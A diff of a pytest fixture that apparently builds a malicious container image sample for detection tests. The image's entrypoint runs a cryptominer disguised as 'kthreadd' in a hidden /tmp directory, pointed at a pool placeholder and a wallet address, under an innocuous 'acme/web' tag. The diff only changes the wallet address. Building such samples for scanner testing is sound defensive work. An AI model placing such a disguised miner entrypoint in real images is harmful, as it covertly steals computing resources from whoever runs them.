@@ -75,7 +75,7 @@ def images(tmp_path_factory: pytest.TempPathFactory) -> Iterator[dict[str, Path]
     _layer(layout, tmp / "b", "cmd", _busybox)
     _run("umoci", "config", "--image", f"{layout}:cmd", "--config.entrypoint", "/bin/sh",
          "--config.cmd", "-c", "--config.cmd",
-         f"/tmp/.x/kthreadd -o {POOL_URL} -u 4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge --donate-level 1")  # fmt: skip
+         f"/tmp/.x/kthreadd -o {POOL_URL} -u 444HofiHpdL9Qvp7HMZ68Gf9MAbGZgAxuevCLvkJubKyJfHBsjMwhJYPUTQtMw3URGHAuKtedLAVQ8tz9LSo3P5xVFmhsZq --donate-level 1")  # fmt: skip
     archive = tmp / "mining-docker.tar"
     _run("skopeo", "copy", f"oci:{layout}:mining", f"docker-archive:{archive}:acme/web:1.4")
     oci_tar = tmp / "mining-oci.tar"
